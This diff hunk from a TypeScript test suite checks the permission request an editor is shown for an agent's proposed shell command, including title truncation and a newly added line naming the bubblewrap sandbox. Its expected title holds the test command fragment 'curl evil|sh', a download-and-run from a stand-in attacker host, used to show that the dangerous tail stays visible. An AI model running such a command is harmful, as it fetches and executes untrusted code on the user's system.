@@ -65,7 +65,11 @@ describe('ACP: what the editor is asked to allow', () => {
     const call = asked[0]!.toolCall;
     expect(call.title).toMatch(/^run shell: echo a+…\[\d+ chars cut\]…a+; curl evil\|sh␍$/);
     expect(call.title!.length).toBeLessThanOrEqual(160);
-    expect(call.content).toEqual([{ type: 'content', content: { type: 'text', text: WHOLE } }]);
+    // Then where it would run (issue 30 item 7; acp-sandbox.fast checks the sentence).
+    expect(call.content).toEqual([
+      { type: 'content', content: { type: 'text', text: WHOLE } },
+      { type: 'content', content: { type: 'text', text: expect.stringMatching(/^runs in: sandbox: workspace-write by bubblewrap — /) } },
+    ]);
     expect(call.rawInput).toMatchObject({ action: { type: 'shell', command: COMMAND } });
 
     const proposed = updates.find((u): u is Extract<acp.SessionUpdate, { sessionUpdate: 'tool_call' }> => u.sessionUpdate === 'tool_call' && u.kind === 'execute');
